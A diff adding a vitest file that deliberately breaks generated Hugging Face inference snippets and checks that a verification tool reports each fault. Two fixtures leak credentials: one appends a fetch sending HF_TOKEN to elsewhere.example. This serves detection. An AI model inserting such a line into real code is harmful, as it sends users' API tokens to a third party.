@@ -1,0 +1,83 @@
+/** Programs that are broken in every way, really run: each is found out, and named with its file. */
+import { mkdtempSync, rmSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { cells } from "./cells.ts";
+import type { Program } from "./program.ts";
+import { type Outcome, prove } from "./prove.ts";
+import { describeFailure } from "./report/print.ts";
+
+const [good] = cells({ provider: "hf-inference", task: "text-classification", client: "fetch" });
+const [shell] = cells({ provider: "hf-inference", task: "text-classification", client: "curl" });
+if (!good || !shell) throw new Error("The matrix has no such snippet.");
+
+const work = mkdtempSync(join(tmpdir(), "callsheet-prove-"));
+afterAll(() => rmSync(work, { recursive: true }));
+
+const changed = (from: string | RegExp, to: string, program: Program = good): string => {
+    const content = program.content.replace(from, to);
+    if (content === program.content) throw new Error(`${from} does not stand in the program.`);
+    return content;
+};
+
+const host = "router.huggingface.co";
+
+/** What is broken, the program, and words of the problem. */
+const broken: readonly (readonly [string, string, RegExp])[] = [
+    ["does not parse", changed("await fetch", "await await ("), /^exit: the program ended with code 1: SyntaxError/m],
+    ["sends nothing", "console.log('Done');", /^requests: nothing was sent$/m],
+    ["reads another variable", changed("HF_TOKEN", "OPENAI_API_KEY"), /^headers.authorization: expected "Bearer hf_/m],
+    ["does not log in", changed(/Authorization: .*,/, ""), /^headers.authorization: .* received nothing$/m],
+    ["lets another pay", changed("headers: {", 'headers: { "X-HF-Bill-To": "x",'), /^headers.x-hf-bill-to/m],
+    ["says another type", changed("application/json", "text/plain"), /^headers.content-type/m],
+    ["asks another model", changed("/models/", "/models/x"), /^url: expected/m],
+    ["sends something else", changed("inputs:", "input:"), /^body.input: expected nothing, received/m],
+    ["sends it twice", `${good.content}await fetch(url, { method: "POST" });`, /is one more than the call$/m],
+    ["asks a stranger", changed(host, "elsewhere.example"), /leaks: a token was sent to elsewhere\.example/m],
+    [
+        "gives a stranger its token",
+        `${good.content}await fetch("https://elsewhere.example/", { headers: { authorization: process.env.HF_TOKEN } });`,
+        /elsewhere\.example\/ carries the token of HF_TOKEN/m,
+    ],
+    ["prints nothing", changed(/console\.log\(.*\);/, ""), /^output: printed ""$/m],
+    [
+        "does not wait",
+        changed("await response.json()", "response.json()"),
+        /^output: printed "Promise { <pending> }"$/m,
+    ],
+    ["prints something else", changed("await response.json()", "response"), /^output: printed nothing of the answer/m],
+    ["leaves a file", `import fs from "node:fs";\nfs.writeFileSync("x", "");\n${good.content}`, /^output: saved x/m],
+];
+
+const outcomes = new Map<string, Outcome>();
+
+beforeAll(async () => {
+    const programs = broken.map(([name, content]) => ({ ...good, id: `test/${name}`, content }));
+    const fails = changed("curl ", "curl --no-such-option ", shell);
+    const all = [good, shell, ...programs, { ...shell, id: "test/shell", content: fails }];
+    const python = { missing: "not needed here" };
+    for (const outcome of await prove(all, { work, python })) outcomes.set(outcome.program.id, outcome);
+}, 60_000);
+
+test.each([good.id, shell.id])("%s passes", (id) => {
+    expect(outcomes.get(id)?.problems).toEqual([]);
+});
+
+test.each(broken)("a program that %s", (name, _, problem) => {
+    const outcome = outcomes.get(`test/${name}`);
+    if (!outcome) throw new Error("It was not run.");
+    const message = describeFailure(outcome);
+    expect(
+        message
+            .split("\n")
+            .map((line) => line.trim())
+            .join("\n"),
+    ).toMatch(problem);
+    expect(message).toContain(`failed  test/${name}`);
+    expect(message).toContain("open packages/snippets/src/templates/js/fetch/print.ts");
+});
+
+test("a command that fails", () => {
+    expect(outcomes.get("test/shell")?.problems[0]?.message).toMatch(/^the program ended with code 2: curl: /);
+});
